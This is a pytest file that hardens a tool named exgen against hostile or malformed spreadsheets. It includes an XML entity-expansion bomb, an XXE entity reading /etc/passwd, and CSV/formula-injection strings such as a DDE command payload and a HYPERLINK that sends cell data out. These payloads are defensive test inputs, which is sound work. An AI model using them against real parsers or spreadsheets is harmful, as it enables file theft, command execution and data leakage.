"""Hardening 2, spreadsheets: no workbook can hang, crash or fool exgen. Hand-zipped
workbooks (the XML as hostile or odd exporters write it) and openpyxl's own, read by
every command that takes a table: each ends in success or exit 2 naming the file and
the sheet, within a time limit, and what a spreadsheet program would take for a formula
is never written as one."""

from __future__ import annotations

import contextlib
import csv
import io
import signal
import zipfile
from pathlib import Path

import openpyxl
import pytest

from conftest import ROOT, exgen

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"


def cell_xml(ref: str, value, style: int | None = None) -> str:
    s = f' s="{style}"' if style is not None else ""
    if isinstance(value, str):
        return f'<c r="{ref}" t="inlineStr"{s}><is><t>{value}</t></is></c>'
    return f'<c r="{ref}"{s}><v>{value}</v></c>'


def sheet_xml(rows: list[tuple[int, list[str]]], dimension: str = "", prolog: str = "",
              main: str = MAIN) -> str:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    body = "".join(f'<row r="{r}">{"".join(cells)}</row>' for r, cells in rows)
    return (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet xmlns="{main}">'
            f'{dim}<sheetData>{body}</sheetData></worksheet>')


STYLES = (f'<?xml version="1.0"?><styleSheet xmlns="{MAIN}"><cellXfs count="3">'
          '<xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="20"/></cellXfs></styleSheet>')


def workbook(path: Path, sheets: dict[str, str], styles: str = STYLES, main: str = MAIN,
             rel: str = REL) -> Path:
    """An .xlsx zipped by hand: each sheet's XML as given."""
    if main != MAIN:
        styles = styles.replace(MAIN, main)
    entries = "".join(f'<sheet name="{name}" sheetId="{i}" r:id="rId{i}"/>'
                      for i, name in enumerate(sheets, start=1))
    rels = "".join(f'<Relationship Id="rId{i}" Type="{rel}/worksheet" '
                   f'Target="worksheets/sheet{i}.xml"/>' for i in range(1, len(sheets) + 1))
    rels += f'<Relationship Id="rIdS" Type="{rel}/styles" Target="styles.xml"/>'
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://'
                   'schemas.openxmlformats.org/package/2006/content-types"/>')
        z.writestr("_rels/.rels", f'<?xml version="1.0"?><Relationships xmlns="{PKG}">'
                   f'<Relationship Id="r1" Type="{rel}/officeDocument" '
                   'Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml", f'<?xml version="1.0"?><workbook xmlns="{main}" '
                   f'xmlns:r="{rel}"><sheets>{entries}</sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels",
                   f'<?xml version="1.0"?><Relationships xmlns="{PKG}">{rels}</Relationships>')
        z.writestr("xl/styles.xml", styles)
        for i, xml in enumerate(sheets.values(), start=1):
            z.writestr(f"xl/worksheets/sheet{i}.xml", xml)
    return path


@pytest.fixture(scope="module")
def build(tmp_path_factory):
    """A two-student Markdown build to grade against (ffn_dims is on every sheet)."""
    base = tmp_path_factory.mktemp("hostile")
    out = base / "B"
    assert exgen("exams", "--seed", 1, "--students", 2, "--format", "md", "--out", out) == 0
    return out


@contextlib.contextmanager
def time_limit(seconds: int):
    """A command run in this process must end in time (a hang fails the test)."""
    def expired(*_):
        raise TimeoutError(f"still running after {seconds} s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def grade(run, build: Path, answers: Path, timeout: int = 60):
    """exgen grade, within a time limit."""
    with time_limit(timeout):
        return run("grade", "--seed", "1", "--answers", answers, "--format", "md",
                   "--build", build)


def answer_rows(*rows) -> list[tuple[int, list[str]]]:
    return [(1, [cell_xml("A1", "id"), cell_xml("B1", "ffn_dims.d_ff")])] + [
        (r, [cell_xml(f"A{r}", sid), value]) for r, (sid, value) in enumerate(rows, start=2)]


def test_a_declared_size_one_row_short_loses_no_student(build, tmp_path, run):
    path = workbook(tmp_path / "a.xlsx", {"answers": sheet_xml(
        answer_rows(("01", cell_xml("B2", 7)), ("02", cell_xml("B3", 9))),
        dimension="A1:B2")})
    result = grade(run, build, path)
    assert result.code == 0, result.err
    assert "absent" not in result.out + result.err
    rows = list(csv.DictReader(io.StringIO((build / "grades" / "grades.csv").read_text())))
    assert [r["grade"] != "absent" for r in rows] == [True, True]


def test_a_strict_open_xml_workbook_is_read(build, tmp_path, run):
    """Excel's "Strict Open XML" save option: other namespaces, the same cells."""
    strict, strict_rel = ("http://purl.oclc.org/ooxml/spreadsheetml/main",
                          "http://purl.oclc.org/ooxml/officeDocument/relationships")
    path = workbook(tmp_path / "strict.xlsx", {"answers": sheet_xml(
        answer_rows(("01", cell_xml("B2", 7)), ("02", cell_xml("B3", 9))), main=strict)},
        main=strict, rel=strict_rel)
    result = grade(run, build, path)
    assert result.code == 0, result.err
    assert "absent" not in result.err


def test_a_sheet_declaring_a_million_rows_for_one_far_cell_ends_at_once(build, tmp_path, run):
    rows = answer_rows(("01", cell_xml("B2", 7))) + [(1048576, [cell_xml("XFD1048576", 1)])]
    path = workbook(tmp_path / "huge.xlsx", {"answers": sheet_xml(
        rows, dimension="A1:XFD1048576")})
    result = grade(run, build, path, timeout=30)
    assert result.code == 2, result.err
    assert "huge.xlsx" in result.err and "sheet `answers`" in result.err
    assert "XFD1048576" in result.err and "Traceback" not in result.err


def test_the_same_far_cell_in_a_roster_ends_at_once(tmp_path, run):
    rows = [(1, [cell_xml("A1", "id")]), (2, [cell_xml("A2", "s1")]),
            (1048576, [cell_xml("XFD1048576", "x")])]
    path = workbook(tmp_path / "roster.xlsx", {"Sheet1": sheet_xml(rows)})
    with time_limit(30):
        result = run("exams", "--seed", 1, "--roster", path, "--format", "md",
                     "--out", tmp_path / "out")
    assert result.code == 2 and "roster.xlsx" in result.err
    assert not (tmp_path / "out").exists()


BOMB = ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;'
        '&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;'
        '&lol2;&lol2;&lol2;&lol2;">]>')
EXTERNAL = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


@pytest.mark.parametrize("name, xml", [
    ("truncated", sheet_xml(answer_rows(("01", cell_xml("B2", 7))))[:-40]),
    ("entity expansion", sheet_xml([(1, [cell_xml("A1", "id")]),
                                    (2, [cell_xml("A2", "&lol3;")])], prolog=BOMB)),
    ("external entity", sheet_xml([(1, [cell_xml("A1", "id")]),
                                   (2, [cell_xml("A2", "&xxe;")])], prolog=EXTERNAL)),
    ("undefined entity", sheet_xml([(1, [cell_xml("A1", "id")]),
                                    (2, [cell_xml("A2", "&nope;")])])),
    ("NaN", sheet_xml(answer_rows(("01", cell_xml("B2", "NaN").replace(
        't="inlineStr"', "").replace("<is><t>NaN</t></is>", "<v>NaN</v>"))))),
    ("a cell that is no cell", sheet_xml(answer_rows(("01", '<c r="B?"><v>1</v></c>')))),
    ("a shared text it does not hold", sheet_xml(answer_rows(
        ("01", '<c r="B2" t="s"><v>99</v></c>')))),
])
def test_a_sheet_that_does_not_parse_is_exit_2_naming_file_and_sheet(build, tmp_path, run, name,
                                                                     xml):
    path = workbook(tmp_path / "bad.xlsx", {"answers": xml})
    result = grade(run, build, path)
    assert result.code == 2, (name, result.err)
    assert "bad.xlsx" in result.err and "`answers`" in result.err, result.err
    assert "internal error" not in result.err and "root:" not in result.err


def test_a_date_or_time_excel_made_of_an_answer_is_named_not_scored_silently(build,
                                                                            tmp_path, run):
    path = workbook(tmp_path / "dates.xlsx", {"answers": sheet_xml(answer_rows(
        ("01", cell_xml("B2", 46145, style=1)), ("02", cell_xml("B3", 0.0625, style=2))))})
    result = grade(run, build, path)
    assert result.code == 0, result.err
    assert "row 2, column ffn_dims.d_ff (student 01): a date (2026-05-03)" in result.err
    assert "row 3, column ffn_dims.d_ff (student 02): a time (01:30)" in result.err
    report = (build / "grades" / "report.md").read_text(encoding="utf-8")
    assert "Excel е превърнал написаното в дата" in report
    assert "Excel е превърнал написаното в час" in report


def test_a_formula_saved_without_its_value_is_named(build, tmp_path, run):
    path = workbook(tmp_path / "f.xlsx", {"answers": sheet_xml(answer_rows(
        ("01", '<c r="B2"><f>2*1024</f></c>'), ("02", cell_xml("B3", 5))))})
    result = grade(run, build, path)
    assert result.code == 0, result.err
    assert "(student 01): a formula saved without its value" in result.err


def test_a_password_protected_workbook_or_old_xls_says_what_to_do(build, tmp_path, run):
    path = tmp_path / "locked.xlsx"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))
    result = grade(run, build, path)
    assert result.code == 2 and "password-protected" in result.err
    assert "save it as .xlsx without a password" in result.err
    assert "quote" not in result.err


def test_an_opendocument_spreadsheet_is_refused_saying_how_to_save_it(build, tmp_path, run):
    path = tmp_path / "answers.ods"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", "<office:document-content/>")
    result = grade(run, build, path)
    assert result.code == 2 and ".ods" in result.err and ".xlsx" in result.err


def test_the_answers_sheet_is_read_whatever_sheet_comes_first(build, tmp_path, run):
    notes = sheet_xml([(1, [cell_xml("A1", "notes of the assistant")])])
    answers = sheet_xml(answer_rows(("01", cell_xml("B2", 7)), ("02", cell_xml("B3", 9))))
    path = workbook(tmp_path / "two.xlsx", {"Notes": notes, "answers": answers})
    assert grade(run, build, path).code == 0
    path = workbook(tmp_path / "named.xlsx", {"Notes": notes, "Sheet2": answers})
    assert grade(run, build, path).code == 0
    path = workbook(tmp_path / "none.xlsx", {"Notes": notes})
    result = grade(run, build, path)
    assert result.code == 2 and "sheet `Notes`" in result.err


def test_control_characters_in_an_answer_are_shown_and_named(build, tmp_path, run):
    answers = tmp_path / "ctl.csv"
    answers.write_text("id,ffn_dims.d_ff\n01,20\x0148\n02,\x7f\n", encoding="utf-8")
    result = grade(run, build, answers)
    assert result.code == 0, result.err
    assert "line 2, column ffn_dims.d_ff (student 01): control character(s) U+0001" \
        in result.err
    feedback = (build / "grades" / "feedback" / "01.md").read_text(encoding="utf-8")
    assert "\x01" not in feedback and "U+0001" in feedback


INJECTIONS = ['=HYPERLINK("http://example.invalid/?"&C2,"open")', "=cmd|' /C calc'!A0",
              "+A1", "@SUM(1+1)", "-2+3"]


def test_roster_names_never_become_live_formulas(tmp_path, run):
    roster = tmp_path / "roster.csv"
    with roster.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f, lineterminator="\n")
        writer.writerow(["id", "name"])
        writer.writerows([(f"s{i}", name) for i, name in enumerate(INJECTIONS)])
    out = tmp_path / "B"
    spec = ROOT / "exams" / "lecture5-quiz.toml"
    assert run("exams", "--seed", 3, "--spec", spec, "--roster", roster, "--format", "md",
               "--out", out).code == 0
    sheet = openpyxl.load_workbook(out / "answers-template.xlsx")["answers"]
    names = {row[0].value: row[1] for row in sheet.iter_rows(min_row=3)}
    assert all(names[f"s{i}"].data_type == "s" and names[f"s{i}"].value == name
               for i, name in enumerate(INJECTIONS))
    template = run("grade", "--seed", 3, "--spec", spec, "--build", out, "--template").out
    rows = list(csv.reader(io.StringIO(template)))
    assert sorted(row[1] for row in rows[1:]) == sorted(f"'{name}" for name in INJECTIONS)
    # exgen reads its own guarded CSV back as the names and ids it wrote.
    answers = tmp_path / "answers.csv"
    with answers.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f, lineterminator="\n")
        writer.writerow(rows[0])
        for row in rows[1:]:
            writer.writerow([*row[:2], *["0" if column.endswith(".points") else "4096"
                                         for column in rows[0][2:]]])
    result = run("grade", "--seed", 3, "--spec", spec, "--build", out, "--answers", answers,
                 "--format", "md")
    assert result.code == 0, result.err
    grades = openpyxl.load_workbook(out / "grades" / "grades.xlsx")["grades"]
    cells = [row[1] for row in grades.iter_rows(min_row=3)]
    assert sorted(c.value for c in cells) == sorted(INJECTIONS)
    assert all(c.data_type == "s" for c in cells)
    text = (out / "grades" / "grades.csv").read_text(encoding="utf-8")
    for row in list(csv.reader(io.StringIO(text)))[1:]:
        assert row[1].startswith("'") and row[1][1:] in INJECTIONS, row


def _mutated_workbook(path: Path, seed: int, rows: list[list]) -> Path:
    """An openpyxl workbook with bytes flipped in one of its parts, or the part cut."""
    import random

    rng = random.Random(seed)
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "answers"
    for row in rows:
        sheet.append([rng.choice(cell) if isinstance(cell, list) else cell for cell in row])
    buffer = io.BytesIO()
    book.save(buffer)
    with zipfile.ZipFile(buffer) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    victim = rng.choice(sorted(parts))
    content = bytearray(parts[victim])
    for _ in range(rng.randint(1, 4)):
        if content:
            content[rng.randrange(len(content))] = rng.randrange(256)
    if rng.random() < 0.5:
        content = content[:rng.randrange(len(content) + 1)]
    parts[victim] = bytes(content)
    with zipfile.ZipFile(path, "w") as target:
        for name, body in parts.items():
            target.writestr(name, body)
    return path


def _files(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*")}


@pytest.mark.parametrize("seed", range(8))
def test_random_workbooks_end_in_success_or_a_clear_exit_2(build, tmp_path, seed, run):
    """Mutated workbooks as an answers file, a roster and an accepted-answers file: each
    command succeeds or says exit 2 naming the file, in time, and writes nothing outside
    its output folder."""
    answers = _mutated_workbook(tmp_path / "answers.xlsx", seed, [
        ["id", "ffn_dims.d_ff"], ["01", [2048, "2 048", "=1+1", None, 3.5]],
        ["02", ["x", 1e308, -0.0, "[1; 2]"]]])
    roster = _mutated_workbook(tmp_path / "roster.xlsx", seed + 100, [
        ["id", "name", "lang"], ["s1", ["Ana", "=A1", None], ["bg", "en", "xx"]],
        ["s2", ["Боб", 12], "en"]])
    accept = _mutated_workbook(tmp_path / "accept.xlsx", seed + 200, [
        ["student", "column", "value", "points"], ["*", "ffn_dims.d_ff", [2048, "x"], None]])
    before = _files(tmp_path)
    commands = [
        ("answers.xlsx", ["grade", "--seed", "1", "--answers", str(answers), "--format",
                          "md", "--build", str(build)]),
        ("roster.xlsx", ["exams", "--seed", "1", "--roster", str(roster), "--format", "md",
                         "--out", str(tmp_path / "out")]),
        ("accept.xlsx", ["grade", "--seed", "1", "--answers", str(ROOT / "tests" / "data"
                         / "missing.csv"), "--accept", str(accept), "--format", "md",
                         "--build", str(build)]),
    ]
    for name, command in commands:
        if name == "accept.xlsx":
            plain = tmp_path / "plain.csv"
            plain.write_text("id,ffn_dims.d_ff\n01,2048\n", encoding="utf-8")
            command[command.index("--answers") + 1] = str(plain)
            before.add("plain.csv")
        with time_limit(30):
            result = run(*command)
        assert result.code in (0, 2), (name, result.err)
        assert "Traceback" not in result.err and "internal error" not in result.err
        if result.code == 2:
            assert name in result.err, result.err
    assert _files(tmp_path) - {"out"} - {p for p in _files(tmp_path) if p.startswith("out/")} \
        == before


def test_control_characters_in_a_roster_are_shown_and_named(tmp_path, run):
    roster = tmp_path / "roster.csv"
    roster.write_text("id,name\ns1,Ана\x01 Петрова\ns2,Bob\n", encoding="utf-8")
    out = tmp_path / "out"
    result = run("exams", "--seed", 1, "--roster", roster, "--format", "md", "--out", out)
    assert result.code == 0, result.err
    assert "roster.csv, line 2: control character(s) U+0001" in result.err
    sheet = (out / "sheets" / "s1.md").read_text(encoding="utf-8")
    assert "\x01" not in sheet and "U+0001" in sheet
